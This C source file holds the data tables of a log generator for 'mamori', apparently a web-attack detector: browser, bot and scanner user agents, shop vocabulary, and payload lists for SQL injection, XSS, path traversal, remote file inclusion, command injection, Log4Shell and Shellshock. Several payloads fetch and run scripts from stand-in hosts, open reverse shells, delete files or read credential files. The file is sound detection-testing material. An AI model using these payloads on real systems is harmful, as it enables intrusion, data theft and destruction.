/*
 * genlog_data.c — the tables the log generator draws from: real user
 * agents of browsers, crawlers, apps and attack tools; the words the
 * shop's products, categories, searches and blog posts are made of; and
 * attack payloads of every category mamori detects, written the way they
 * show up in real logs (raw, percent-encoded, double-encoded, obfuscated).
 *
 * Payloads are request targets (path and query) as a client sent them;
 * they contain no space and no double quote, so every line stays one
 * well-formed combined-format record. A double quote inside a payload is
 * written as nginx escapes it, \x22.
 */
#include "genlog.h"

#define TABLE(name, ...) \
    const char *const name[] = {__VA_ARGS__}; \
    const size_t name##_len = MR_ARRAY_LEN(name)

TABLE(gen_ua_desktop,
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36");

TABLE(gen_ua_mobile,
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/142.0.7444.46 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36 Line/15.18.0");

TABLE(gen_ua_bots,
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.7444.59 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)");

TABLE(gen_ua_apps,
    "ShopApp/4.2.1 (iPhone; iOS 18.7; Scale/3.00)",
    "ShopApp/4.2.0 (Android 14; Pixel 8)",
    "okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; SH-M24 Build/S9170)",
    "python-requests/2.32.3",
    "Go-http-client/2.0");

TABLE(gen_ua_tools,
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Safari/537.36",
    "Wget/1.21.4",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0");

TABLE(gen_ua_scanners,
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:004117)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "gobuster/3.6",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x");

TABLE(gen_ipv6_prefixes,
    "2400:4050", "240b:10", "2404:7a80", "2001:240", "2409:10", "2a02:8109",
    "2600:1700", "2001:ee0", "2406:da14", "2a01:cb00");

TABLE(gen_adjectives,
    "linen", "wool", "organic", "classic", "slim", "oversized", "vintage",
    "waterproof", "lightweight", "merino", "recycled", "handmade", "indigo",
    "charcoal", "cotton", "leather", "canvas", "quilted", "ceramic", "walnut");

TABLE(gen_nouns,
    "shirt", "jacket", "sneakers", "tote-bag", "scarf", "beanie", "hoodie",
    "chinos", "coat", "socks", "mug", "teapot", "notebook", "backpack",
    "wallet", "belt", "cardigan", "apron", "blanket", "sandals");

TABLE(gen_categories,
    "men", "women", "kids", "shoes", "bags", "accessories", "home",
    "kitchen", "outdoor", "sale", "new-arrivals", "gift-ideas");

/* Real searches, including a few that look like SQL to a naive grep. */
TABLE(gen_search_terms,
    "linen+shirt", "rain+jacket", "men%27s+sneakers", "gift+for+dad",
    "%E3%82%B3%E3%83%BC%E3%83%88", "tote", "wool+socks", "black+friday",
    "select+comfort+pillow", "union+jack+scarf", "select+items+from+sale",
    "drop+shoulder+sweater", "size+chart", "return+policy", "walnut+tray",
    "kids+boots+size+20", "%E3%82%BB%E3%83%BC%E3%83%AB", "script+font+mug",
    "teapot+1l", "ceramic+mug+set", "backpack+15+inch", "order+status");

TABLE(gen_blog_titles,
    "how-to-care-for-linen", "our-autumn-lookbook", "behind-the-seams",
    "packing-list-for-a-tokyo-weekend", "natural-dyes-we-use",
    "a-guide-to-choosing-sizes", "winter-layering-basics",
    "meet-the-weavers-of-bishu", "why-merino", "the-shell-scripts-we-use-in-the-warehouse",
    "moving-our-shop-to-http3", "recycled-cotton-explained", "gift-guide-2024",
    "gift-guide-2025", "how-we-photograph-products", "repairing-a-torn-seam",
    "sashiko-mending-workshop", "store-opening-in-kyoto", "caring-for-leather",
    "summer-sale-recap", "our-packaging-is-now-plastic-free",
    "choosing-a-backpack-for-commuting", "what-select-fabrics-mean",
    "union-of-craft-and-code", "new-warehouse-in-saitama",
    "how-to-wash-wool-socks", "indigo-from-tokushima", "ten-years-of-the-shop",
    "rainy-season-essentials", "shipping-to-taiwan-and-korea",
    "our-customer-service-team", "the-story-of-our-tote");

TABLE(gen_tags,
    "style", "care-guide", "news", "sustainability", "behind-the-scenes",
    "engineering", "travel", "gifts");

TABLE(gen_ext_referers,
    "https://www.google.com/", "https://www.google.co.jp/",
    "https://www.bing.com/", "https://search.yahoo.co.jp/",
    "https://t.co/", "https://www.instagram.com/", "https://l.facebook.com/",
    "https://duckduckgo.com/", "https://news.ycombinator.com/",
    "android-app://com.google.android.gm/");

TABLE(gen_static_assets,
    "/static/css/main.4f2a9c1e.css", "/static/css/vendor.77ab01d3.css",
    "/static/js/app.8d3b7f20.js", "/static/js/vendor.1c9e44ab.js",
    "/static/js/runtime.02f1e9.js", "/static/js/checkout.b37e1d52.js",
    "/fonts/inter-var.woff2", "/fonts/noto-sans-jp-400.woff2",
    "/favicon.ico", "/apple-touch-icon.png", "/images/logo.svg",
    "/images/hero/autumn-2026.webp", "/site.webmanifest");

/* SQL injection: tautologies, UNION, stacked and time-based, comment and
 * encoding tricks, as sqlmap and people by hand send them. */
TABLE(gen_atk_sqli,
    "/products?id=1%27%20OR%20%271%27%3D%271",
    "/products?id=1'+OR+'1'='1",
    "/products?id=-1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x71766a7a71,0x4a6d,0x716b7a7071),NULL--+-",
    "/search?q=1%27+UNION+SELECT+username,password+FROM+users--+-",
    "/api/v1/products?category=shoes%27%20AND%20SLEEP(5)--%20",
    "/products?id=1+AND+BENCHMARK(5000000,MD5(1))",
    "/products?id=1)+AND+(SELECT+7263+FROM+(SELECT(SLEEP(5)))xKjq)--+yTzh",
    "/category/shoes?sort=price%3Bselect+pg_sleep(5)--",
    "/login?username=admin%27--&password=x",
    "/products?id=1/**/UNION/**/SELECT/**/1,2,group_concat(table_name)/**/FROM/**/information_schema.tables",
    "/products?id=1%2527%2520OR%25201%253D1",
    "/api/v1/orders/1%20AND%201%3D1",
    "/search?q=%27%3BWAITFOR+DELAY+%270%3A0%3A5%27--",
    "/products?id=1%27%20AND%20extractvalue(1,concat(0x7e,version()))--%20",
    "/products?id=1+uNiOn+SeLeCt+1,2,3,4--",
    "/category/men?page=2%27%20ORDER%20BY%2010--%20");

TABLE(gen_atk_xss,
    "/search?q=<script>alert(1)</script>",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "/search?q=%3Csvg%2Fonload%3Dalert(1)%3E",
    "/blog/?s=\\x22><img+src=x+onerror=alert(1)>",
    "/products?ref=%22%3E%3Cscript%20src%3Dhttps%3A%2F%2Fevil.example%2Fx.js%3E%3C%2Fscript%3E",
    "/search?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B",
    "/search?q=<body+onload=alert('XSS')>",
    "/account?next=javascript:alert(document.domain)",
    "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "/blog/tag/%3Ciframe%20src%3Djavascript%3Aalert(1)%3E",
    "/search?q=%3Cimg%20src%3D1%20onerror%3Dprompt(8)%3E");

TABLE(gen_atk_traversal,
    "/static/../../../../etc/passwd",
    "/download?file=../../../../etc/passwd",
    "/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/images/..%2f..%2f..%2f..%2fetc%2fshadow",
    "/index.php?page=....//....//....//etc/passwd",
    "/download?file=..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/api/v1/files?path=/proc/self/environ",
    "/index.php?page=php://filter/convert.base64-encode/resource=../config.php",
    "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd");

TABLE(gen_atk_rfi,
    "/index.php?page=http://evil.example/shell.txt",
    "/index.php?page=http://evil.example/shell.txt%3F",
    "/?include=https%3A%2F%2Fpastebin.example%2Fraw%2Fx9k2Lm",
    "/blog/?template=ftp://198.51.100.23/r57.txt",
    "/index.php?file=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "/page.php?url=http%3A%2F%2F203.0.113.77%2Fc99.txt%3F",
    "/index.php?lang=https://evil.example/x.php%00");

TABLE(gen_atk_cmdi,
    "/api/v1/ping?host=127.0.0.1;cat+/etc/passwd",
    "/cgi-bin/status?host=8.8.8.8|id",
    "/diag?ip=%3Bcat%20%2Fetc%2Fpasswd",
    "/api/v1/export?name=report$(id)",
    "/search?q=%60wget+http%3A%2F%2F198.51.100.7%2Fx.sh+-O-%7Csh%60",
    "/tools/ping?h=1.1.1.1%26%26whoami",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/mozi.m;chmod+777+mozi.m;sh+mozi.m",
    "/index.php?cmd=uname%20-a",
    "/api/v1/convert?file=a.png%7Cnc%20198.51.100.7%204444%20-e%20%2Fbin%2Fsh",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F203.0.113.9%2Ft%7Csh%60)");

TABLE(gen_atk_probe,
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
    "/solr/admin/info/system?wt=json",
    "/actuator/env",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.33%3A1389%2Fa%7D",
    "/cgi-bin/test.cgi",
    "/owa/auth/x.js",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/console/css/%252e%252e%252fconsole.portal",
    "/_ignition/execute-solution");

TABLE(gen_atk_jndi,
    "${jndi:ldap://198.51.100.33:1389/Exploit}",
    "${jndi:ldap://c6u5qjd2.interact.example/a}",
    "${${lower:j}ndi:${lower:l}dap://log4.evil.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.44:1099/o}",
    "${jndi:dns://${hostName}.d2a1.oast.example}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${${upper:j}ndi:${upper:r}mi://198.51.100.12/b}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/c}");

TABLE(gen_atk_shellshock,
    "() { :; }; echo; /bin/cat /etc/passwd",
    "() { :;}; /bin/bash -c \\x22wget http://203.0.113.9/bins.sh -O- | sh\\x22",
    "() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id",
    "() { :; }; /bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");

TABLE(gen_atk_sensitive,
    "/.env", "/.git/config", "/.git/HEAD", "/wp-config.php.bak",
    "/config.php~", "/.aws/credentials", "/backup.sql", "/db.sql.gz",
    "/.htpasswd", "/.DS_Store", "/server-status", "/phpinfo.php",
    "/.svn/entries", "/id_rsa", "/config/database.yml", "/.vscode/sftp.json",
    "/api/.env", "/laravel/.env", "/wp-config.php.save", "/.npmrc");

TABLE(gen_atk_scan_paths,
    "/admin/", "/phpmyadmin/", "/wp-login.php", "/backup/", "/administrator/",
    "/xmlrpc.php", "/admin.php", "/login.action", "/manager/html",
    "/.well-known/security.txt", "/test/", "/old/", "/db/", "/jenkins/login",
    "/cgi-bin/", "/upload.php", "/web.config", "/console/", "/api/swagger.json",
    "/debug/default/view");
